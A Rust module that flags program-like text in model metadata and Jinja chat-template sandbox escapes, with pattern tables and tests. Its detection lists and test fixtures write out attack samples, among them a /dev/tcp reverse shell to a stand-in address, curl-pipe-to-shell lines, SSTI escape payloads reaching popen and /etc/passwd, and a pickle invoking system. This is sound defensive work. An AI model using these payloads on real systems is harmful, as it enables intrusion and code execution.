//! Text in metadata that looks like a program, and chat templates that reach for more than a
//! conversation.
//!
//! Text does not run by itself, but descriptions, training arguments and templates travel with
//! models, and tools evaluate, render or paste them. Two questions are answered, each by one
//! table of patterns and one pass over the text: [`code_like`] is for any metadata, and
//! [`template_escape`] for Jinja templates.
//!
//! What it refuses to do: parse any language. A pattern is a few fixed characters and what may
//! stand on either side of them, chosen so that licences, model cards, configurations, honest
//! chat templates and prose about programs hit none: `model.eval()`, `import torch` and
//! `messages[0]['role']` are not remarkable, `eval(atob(` and `x.__class__` are. Whoever hides
//! better than that is not found here; `metadata.code` is advice, not a proof.
//!
//! The tables stand here and not in `spec/rules/names.toml` because a row is no name: what
//! surrounds it decides.
//!
//! Sources: Jinja, `sandbox.py` (`UNSAFE_*_ATTRIBUTES`, `is_internal_attribute`) and
//! `defaults.py` (`DEFAULT_NAMESPACE`); CVE-2024-34359, where a GGUF file's chat template was
//! rendered without a sandbox.

/// Where the first thing stands that looks like a program, if anything does.
#[must_use]
pub fn code_like(text: &[u8]) -> Option<usize> {
    let opening = text.iter().position(|byte| !byte.is_ascii_whitespace())?;
    let start = text.get(opening..).unwrap_or_default();
    if opens_as_program(start) || is_packed_pickle(start) {
        return Some(opening);
    }
    first(text, &CODE, &CODE_FIRST)
}

/// Where a Jinja template first reaches for what leads out of its sandbox, if it does.
#[must_use]
pub fn template_escape(text: &[u8]) -> Option<usize> {
    first(text, &TEMPLATE, &TEMPLATE_FIRST)
}

/// No pattern looks further than this many bytes.
pub const REACH: usize = 1024;

/// Fixed characters, and what has to stand before and behind them.
struct Pattern {
    text: &'static str,
    /// Whether the case of letters is of no account.
    any_case: bool,
    before: fn(&[u8]) -> bool,
    behind: fn(&[u8]) -> bool,
}

const fn exact(
    text: &'static str,
    before: fn(&[u8]) -> bool,
    behind: fn(&[u8]) -> bool,
) -> Pattern {
    Pattern { text, any_case: false, before, behind }
}

const fn any_case(
    text: &'static str,
    before: fn(&[u8]) -> bool,
    behind: fn(&[u8]) -> bool,
) -> Pattern {
    Pattern { text, any_case: true, before, behind }
}

/// What a program does that no description does.
static CODE: [Pattern; 70] = [
    // Python: evaluated text, loaded modules, and ways around either.
    exact("exec(", word, literal_or_call),
    exact("eval(", word, literal_or_call),
    exact("compile(", word, compiled),
    exact("__import__(", anything, argument),
    exact("import_module(", anything, argument),
    exact("__builtins__", anything, reached_into),
    exact("__globals__", anything, reached_into),
    exact("__subclasses__(", anything, anything),
    exact("__reduce__", anything, defined),
    exact("pickle.loads(", anything, argument),
    exact("marshal.loads(", anything, argument),
    exact("ctypes.CDLL(", anything, anything),
    exact("import os;", name, anything),
    exact("import sys;", name, anything),
    exact("import base64;", name, anything),
    exact("import socket;", name, anything),
    exact("import subprocess;", name, anything),
    // Python: processes, shells, sockets.
    exact("os.system(", name, argument),
    exact("os.popen(", name, argument),
    exact("os.exec", name, exec_suffix),
    exact("os.spawn", name, exec_suffix),
    exact("posix.system(", name, argument),
    exact("nt.system(", name, argument),
    exact("pty.spawn(", name, argument),
    exact("popen(", dotted, argument),
    exact("subprocess.Popen(", name, argument),
    exact("subprocess.run(", name, argument),
    exact("subprocess.call(", name, argument),
    exact("subprocess.check_", name, anything),
    exact("subprocess.get", name, anything),
    exact("socket.socket(", name, anything),
    exact("!!python/", anything, anything),
    // Shells.
    exact("curl ", name, piped_into_shell),
    exact("wget ", name, piped_into_shell),
    exact("base64 -d", name, piped_into_shell),
    exact("base64 --decode", name, piped_into_shell),
    exact("$(curl ", anything, anything),
    exact("$(wget ", anything, anything),
    exact("$(bash ", anything, anything),
    exact("$(sh ", anything, anything),
    exact("$(nc ", anything, anything),
    exact("$(cat ", anything, anything),
    exact("$(id)", anything, anything),
    exact("$(whoami)", anything, anything),
    exact("$(uname", anything, anything),
    exact("$(hostname", anything, anything),
    exact("$(touch ", anything, anything),
    exact("$(rm ", anything, anything),
    exact("$(python", anything, anything),
    exact("${IFS}", anything, anything),
    exact("/dev/tcp/", anything, anything),
    exact("bash -i", name, anything),
    exact("nc -e", name, anything),
    exact("rm -rf /", name, all_of_it),
    exact("rm -rf ~", name, all_of_it),
    any_case("powershell -", name, anything),
    any_case("powershell.exe", name, anything),
    any_case("cmd /c", name, anything),
    any_case("cmd.exe", name, anything),
    any_case("invoke-expression", name, anything),
    any_case("iex(", name, argument),
    any_case(".downloadstring(", anything, anything),
    // What a page, a template or a logger of other languages would run.
    any_case("<script", anything, tag),
    any_case("javascript:", name, address),
    any_case("onerror=", blank, anything),
    any_case("onload=", blank, anything),
    exact("${jndi:", anything, anything),
    exact("require('child_process')", anything, anything),
    exact("getRuntime().exec(", anything, anything),
    exact("<?php", anything, anything),
];

/// How an expression leaves Jinja's sandbox, and how it spells what it may not name.
static TEMPLATE: [Pattern; 35] = [
    // Attributes between double underscores, whole or in pieces.
    exact("__", anything, internal),
    exact("__", quote, letter),
    exact("__", letter_before, quoted),
    exact("__", quote, quoted),
    exact(".__", anything, letter),
    exact("_", quote, joined),
    exact("_", joining, quoted),
    exact("(_=", anything, anything),
    exact(",_=", anything, anything),
    // The same underscore as an escape: Jinja's strings know Python's.
    exact("\\x5f", anything, anything),
    exact("\\x5F", anything, anything),
    exact("\\u005f", anything, anything),
    exact("\\u005F", anything, anything),
    exact("\\U0000005f", anything, anything),
    exact("\\U0000005F", anything, anything),
    exact("\\137", anything, anything),
    exact("\\N{", anything, anything),
    exact("%c", quote, anything),
    // Attributes by a name that is worked out.
    exact("attr", filter, unnamed),
    exact("attr", quote, quoted),
    exact(".decode(", anything, anything),
    // What leads from a function or a frame to everything.
    exact("_globals", attribute, word_end),
    exact("f_builtins", attribute, word_end),
    exact("f_locals", attribute, word_end),
    exact("_frame", attribute, frame),
    exact("func_code", attribute, word_end),
    exact("mro(", attribute, anything),
    exact("popen(", anything, anything),
    exact("_TemplateReference", anything, anything),
    exact("self._", name, anything),
    // Names that every environment has, and that no conversation needs.
    exact("lipsum", name, reached_into),
    exact("cycler", name, reached_into),
    exact("joiner", name, reached_into),
    exact("get_flashed_messages", name, reached_into),
    // Other files.
    exact("{%", anything, loads_template),
];

const fn firsts(patterns: &[Pattern]) -> [bool; 256] {
    let mut table = [false; 256];
    let mut rest = patterns;
    while let Some((pattern, others)) = rest.split_first() {
        if let Some((&byte, _)) = pattern.text.as_bytes().split_first() {
            mark(&mut table, byte);
            if pattern.any_case {
                mark(&mut table, byte.to_ascii_uppercase());
            }
        }
        rest = others;
    }
    table
}

const fn mark(table: &mut [bool; 256], byte: u8) {
    let (_, rest) = table.split_at_mut(byte as usize);
    if let Some((place, _)) = rest.split_first_mut() {
        *place = true;
    }
}

static CODE_FIRST: [bool; 256] = firsts(&CODE);
static TEMPLATE_FIRST: [bool; 256] = firsts(&TEMPLATE);

/// Where the first pattern fits.
fn first(text: &[u8], patterns: &[Pattern], starts: &[bool; 256]) -> Option<usize> {
    text.iter().enumerate().position(|(at, &byte)| {
        starts.get(usize::from(byte)).is_some_and(|&starts| starts)
            && patterns.iter().any(|pattern| pattern.fits(text, at))
    })
}

impl Pattern {
    fn fits(&self, text: &[u8], at: usize) -> bool {
        let (before, rest) = text.split_at_checked(at).unwrap_or_default();
        let Some((here, behind)) = rest.split_at_checked(self.text.len()) else { return false };
        let same = if self.any_case {
            here.eq_ignore_ascii_case(self.text.as_bytes())
        } else {
            here == self.text.as_bytes()
        };
        same && (self.before)(before) && (self.behind)(behind)
    }
}

// What may stand before a pattern: each takes the text up to it.

const fn anything(_: &[u8]) -> bool {
    true
}

/// No identifier goes on here.
fn name(before: &[u8]) -> bool {
    !before.last().is_some_and(|&byte| is_name(byte))
}

/// Neither an identifier nor an attribute: `model.eval(` is a method of somebody's.
fn word(before: &[u8]) -> bool {
    name(before) && before.last() != Some(&b'.')
}

fn dotted(before: &[u8]) -> bool {
    before.last() == Some(&b'.')
}

fn blank(before: &[u8]) -> bool {
    before
        .last()
        .is_some_and(|byte| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'/'))
}

fn quote(before: &[u8]) -> bool {
    before.last().is_some_and(|&byte| is_quote(byte))
}

fn letter_before(before: &[u8]) -> bool {
    before.last().is_some_and(u8::is_ascii_alphanumeric)
}

/// An attribute by a dot, or a name as a string, of which only the ending is the pattern.
fn attribute(before: &[u8]) -> bool {
    let start = before.iter().rev().take(64).find(|&&byte| !is_name(byte));
    start.is_some_and(|&byte| byte == b'.' || is_quote(byte))
}

/// A filter's bar.
fn filter(before: &[u8]) -> bool {
    before.trim_ascii_end().last() == Some(&b'|')
}

/// A quote, and before it what makes the string a piece of a longer one: an operator, an
/// assignment, a list, a tuple.
fn joining(before: &[u8]) -> bool {
    let Some((&last, before)) = before.split_last() else { return false };
    let before = before.trim_ascii_end();
    is_quote(last)
        && match before {
            [.., b'=' | b'!' | b'<' | b'>', b'='] => false,
            [.., b'~' | b'+' | b'=' | b'['] => true,
            [rest @ .., b'('] => !rest.last().is_some_and(|&byte| is_name(byte)),
            _ => false,
        }
}

// What may stand behind a pattern: each takes the text from there.

fn word_end(behind: &[u8]) -> bool {
    !behind.first().is_some_and(|&byte| is_name(byte))
}

fn letter(behind: &[u8]) -> bool {
    behind.first().is_some_and(u8::is_ascii_alphanumeric)
}

fn quoted(behind: &[u8]) -> bool {
    behind.first().is_some_and(|&byte| is_quote(byte))
}

/// A call that is handed something.
fn argument(behind: &[u8]) -> bool {
    behind.trim_ascii_start().first().is_some_and(|&byte| byte != b')')
}

/// The call is handed text, or what another call gives: `exec("…`, `eval(atob(…`.
fn literal_or_call(behind: &[u8]) -> bool {
    let behind = behind.trim_ascii_start();
    let end = behind.iter().position(|&byte| !is_name(byte) && byte != b'.');
    match end.and_then(|end| behind.get(end).map(|&byte| (end, byte))) {
        // Letters before a quote are a string's own: `b"…`, `rb'…`.
        Some((end, byte)) if is_quote(byte) => end <= 2,
        Some((end, b'(')) => end > 0,
        _ => false,
    }
}

/// Python's `compile` is told what to compile for.
fn compiled(behind: &[u8]) -> bool {
    let line = within(behind, 256);
    [b"'exec'", b"\"exec\"", b"'eval'", b"\"eval\""]
        .iter()
        .any(|mode| line.windows(mode.len()).any(|window| window == *mode))
}

/// An attribute, an item, a call or a filter of what stands before.
fn reached_into(behind: &[u8]) -> bool {
    matches!(behind.trim_ascii_start().first(), Some(b'.' | b'[' | b'|'))
        || matches!(behind, [b'\'' | b'"', b']', ..] | [b'\'' | b'"', b')', ..])
}

/// A method being defined or called, not the name in prose.
fn defined(behind: &[u8]) -> bool {
    behind.first() == Some(&b'(')
}

/// `execv(`, `spawnlp(` and their kin.
fn exec_suffix(behind: &[u8]) -> bool {
    let end = behind.iter().position(|byte| !matches!(byte, b'l' | b'v' | b'p' | b'e'));
    end.is_some_and(|end| (1..=3).contains(&end) && behind.get(end) == Some(&b'('))
}

/// On the same line, a bar and a shell or an interpreter.
fn piped_into_shell(behind: &[u8]) -> bool {
    const SHELLS: [&[u8]; 9] =
        [b"sh", b"bash", b"zsh", b"dash", b"python", b"python3", b"perl", b"ruby", b"node"];
    within(behind, 512).split(|&byte| byte == b'|').skip(1).any(|command| {
        let mut words = command
            .split(|byte| {
                byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'`' | b';' | b')')
            })
            .filter(|word| !word.is_empty());
        let command = words.find(|word| *word != b"sudo" && !word.starts_with(b"-"));
        let command = command.map(|word| word.rsplit(|&byte| byte == b'/').next().unwrap_or(word));
        command.is_some_and(|command| SHELLS.contains(&command))
    })
}

/// The whole disk or home, not a folder in it.
fn all_of_it(behind: &[u8]) -> bool {
    !behind.first().is_some_and(|&byte| is_name(byte) || matches!(byte, b'.' | b'/' | b'$' | b'{'))
}

fn tag(behind: &[u8]) -> bool {
    matches!(behind.first(), Some(b'>' | b'/'))
        || behind.first().is_some_and(u8::is_ascii_whitespace)
}

fn address(behind: &[u8]) -> bool {
    behind.first().is_some_and(u8::is_ascii_alphabetic)
}

/// `class__`: the rest of a name between double underscores.
fn internal(behind: &[u8]) -> bool {
    let end = behind.windows(2).take(40).position(|pair| pair == b"__");
    end.and_then(|end| behind.get(..end)).is_some_and(|inner| {
        !inner.is_empty()
            && inner.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
            && inner.iter().any(u8::is_ascii_lowercase)
    })
}

/// A closing quote, and behind it what makes the string a piece of a longer one.
fn joined(behind: &[u8]) -> bool {
    let Some((&first, behind)) = behind.split_first() else { return false };
    is_quote(first) && matches!(behind.trim_ascii_start().first(), Some(b'~' | b'+' | b'*' | b']'))
}

/// `|attr(…)`, and not a filter whose name only starts so.
fn unnamed(behind: &[u8]) -> bool {
    behind.trim_ascii_start().first() == Some(&b'(')
}

/// `gi_frame`, `tb_frame` and `cr_frame` stand alone.
fn frame(behind: &[u8]) -> bool {
    matches!(behind.first(), Some(b'.' | b'['))
}

/// A tag that loads another template.
fn loads_template(behind: &[u8]) -> bool {
    const TAGS: [&[u8]; 4] = [b"include", b"import", b"from", b"extends"];
    let behind = match behind {
        [b'-' | b'+', rest @ ..] => rest,
        all => all,
    };
    let behind = behind.trim_ascii_start();
    TAGS.iter().any(|tag| behind.strip_prefix(*tag).is_some_and(word_end))
}

// Shared pieces.

const fn is_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

const fn is_quote(byte: u8) -> bool {
    matches!(byte, b'"' | b'\'')
}

/// The rest of the line, and no more than `most` bytes.
fn within(text: &[u8], most: usize) -> &[u8] {
    let text = text.get(..most).unwrap_or(text);
    text.split(|&byte| byte == b'\n').next().unwrap_or_default()
}

/// Whether the text is a program from its first word on.
fn opens_as_program(text: &[u8]) -> bool {
    const MODULES: [&[u8]; 12] = [
        b"os",
        b"sys",
        b"subprocess",
        b"socket",
        b"base64",
        b"pty",
        b"ctypes",
        b"shutil",
        b"pickle",
        b"marshal",
        b"builtins",
        b"importlib",
    ];
    if text.starts_with(b"#!/") {
        return true;
    }
    let line = within(text, 256);
    let mut words = line
        .split(|byte| byte.is_ascii_whitespace() || matches!(byte, b',' | b';'))
        .filter(|word| !word.is_empty());
    let module = |word: Option<&[u8]>| {
        let root = word.and_then(|word| word.split(|&byte| byte == b'.').next());
        root.is_some_and(|root| MODULES.contains(&root))
    };
    match words.next() {
        Some(b"import") => words.any(|word| module(Some(word))),
        Some(b"from") => module(words.next()) && words.next() == Some(b"import"),
        _ => false,
    }
}

/// Whether the whole text is the base64 of a pickle: `PROTO` and a frame, or what protocol 2 and
/// 3 start with.
fn is_packed_pickle(text: &[u8]) -> bool {
    const STARTS: [&[u8]; 6] = [b"gASV", b"gAWV", b"gAJj", b"gAJ9", b"gANj", b"gAN9"];
    let text = text.trim_ascii_end();
    text.len() >= 16
        && STARTS.iter().any(|start| text.starts_with(start))
        && text.iter().all(|byte| {
            byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=' | b'\n')
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    const PROGRAMS: &[&str] = &[
        "import os\nos.system('id')",
        "x = 1; os.system(\"id\")",
        "from subprocess import Popen",
        "print(1); import os; os.getcwd()",
        "exec(\"print(1)\")",
        "exec(base64.b64decode('cHJpbnQoMSk='))",
        "eval (1); eval(compile(open('x').read(), 'x', 'exec'))",
        "eval(b'1+1')",
        "compile(text, '<s>', 'exec')",
        "__import__('os').getpid()",
        "getattr(__builtins__['eval'], 'x')",
        "().__class__.__base__.__subclasses__()",
        "subprocess.run(['id'])",
        "subprocess.check_output('id', shell=True)",
        "lambda: os.execvp('sh', ['sh'])",
        "def __reduce__(self): return (print, ())",
        "!!python/object/apply:os.system ['id']",
        "curl -fsSL https://example.invalid/x | sh",
        "wget -qO- example.invalid/x | sudo bash -s -- -y",
        "echo aWQ= | base64 -d | sh",
        "name $(curl example.invalid)",
        "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
        "x; rm -rf / ;",
        "PowerShell -enc SQBFAFgA",
        "cmd.exe /c calc",
        "<script>alert(1)</script>",
        "<SCRIPT src=//example.invalid>",
        "[x](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://example.invalid/a}",
        "require('child_process').execSync('id')",
        "#!/bin/sh\nid",
        "  gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
    ];

    const DESCRIPTIONS: &[&str] = &[
        "",
        "pt",
        "Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/",
        "# Model card\n```python\nimport torch\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('x')\nmodel.eval()\n```",
        "import torch\nmodel.eval()\nprint(model(x))",
        "This model was trained to import data and to export it. Call eval() first.",
        "You may not use eval or exec; exec (the command) is slow. Execution(s) of eval(s).",
        "{\"lr\": 1e-4, \"optimizer\": \"AdamW\", \"argv\": [\"train.py\", \"--eval\", \"steps\"]}",
        "accelerate launch train.py --output_dir=out --eval_steps 100 | tee log.txt",
        "pip install torch; python -m pip install -U transformers && huggingface-cli login",
        "curl https://example.invalid/v1/chat -d '{\"model\": \"x\"}' | jq .",
        "a | b | c: tables use bars. $(x, y)$ is mathematics, and ${name} is a variable.",
        "rm -rf /tmp/cache removes the cache; the system is called os and its shell sh.",
        "Languages: python, javascript: 12%, C. JavaScript is a language.",
        "masterpiece, 1girl, import_quality, (eval:1.2), <lora:script:1>, description=script",
        "a class defines __init__ and __reduce__ and keeps __globals__ to itself",
        "system prompt: You are a helpful assistant that can run subprocess calls.",
        "gASV is a prefix of text that goes on with blanks",
        "compile(model, mode='max-autotune') speeds things up; re.compile('a')",
        "ss_tag_frequency {\"img\": {\"onload\": 1, \"power shell\": 2}}",
    ];

    #[test]
    fn programs_are_told_from_descriptions() {
        for text in PROGRAMS {
            assert!(code_like(text.as_bytes()).is_some(), "missed: {text}");
        }
        for text in DESCRIPTIONS {
            let at = code_like(text.as_bytes());
            assert_eq!(at, None, "false alarm: {text}");
        }
        assert_eq!(code_like(b"abc; os.system('id')"), Some(5));
    }

    const ESCAPES: &[&str] = &[
        "{{ ''.__class__ }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{ x['__class__'] }}",
        "{{ x|attr('name') }}",
        "{{ x | attr ('name') }}",
        "{{ [x]|map('attr', y)|list }}",
        "{{ x['__cla' ~ 'ss__'] }}",
        "{{ x['_' ~ '_class_' ~ '_'] }}",
        "{{ x['_'*2 ~ 'class'] }}",
        "{% set u = '_' %}{{ x[u ~ u ~ 'class' ~ u ~ u] }}",
        "{{ x[('_','_','class')|join] }}",
        "{{ x[['_', 'x']|join] }}",
        "{{ x[dict(_=1)|join] }}",
        "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "{{ x['\\u005f\\u005fclass'] }}",
        "{{ x['\\137'] }}",
        "{{ x['\\N{LOW LINE}'] }}",
        "{{ '%c%c'|format(95, 95) }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ lipsum['x'] }}",
        "{{ joiner | string }}",
        "{{ self._TemplateReference__context }}",
        "{% include '/etc/passwd' %}",
        "{%- import 'x' as y -%}",
        "{%from 'x' import y%}",
        "{% extends 'x' %}",
        "{{ f.func_globals }}",
        "{{ (g for g in x).gi_frame.f_back }}",
        "{{ x.popen('id').read() }}",
    ];

    const TEMPLATES: &[&str] = &[
        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('roles must alternate') }}{% endif %}{% endfor %}",
        "{%- if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% endif %}",
        "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{% endfor %}",
        "{%- set ns = namespace(is_first=false, output='') -%}{{ ns.output + message.content.split('</think>')[-1].lstrip('\\n') }}",
        "{{- strftime_now('%d %b %Y') }}{{ tool | tojson(indent=4) }}",
        "{%- macro escape_attr(value) -%}{{ value|string|replace('_', ' ')|trim }}{%- endmacro -%}{% for attr in attrs %}{{ attr[0] }}{% endfor %}",
        "{{ name.split('_')[0] }}{{ x.replace('-', '_') }}{{ fn.get('_xtml_json_block') }}{% if x == '_' %}{% endif %}",
        "{{ messages|map(attribute='role')|join('_') }}{{ tools|selectattr('type', 'equalto', 'function')|list|first }}",
        "Fill in: ____ or __________. Do not import anything; include all of it, from start to end.",
        "{# from here on #}{% set from_user = true %}{% if include_date %}{% endif %}{%- set imports = 1 %}",
        "{{ 'Environment: ipython\\n' }}{{ joiner }}{{ '\\n\\n' }}",
        "{% generation %}{{ content }}{% endgeneration %}{%- break %}",
    ];

    #[test]
    fn templates_that_escape_are_told_from_honest_ones() {
        for text in ESCAPES {
            assert!(template_escape(text.as_bytes()).is_some(), "missed: {text}");
        }
        for text in TEMPLATES {
            let at = template_escape(text.as_bytes());
            assert_eq!(at, None, "false alarm: {text}");
        }
    }
}
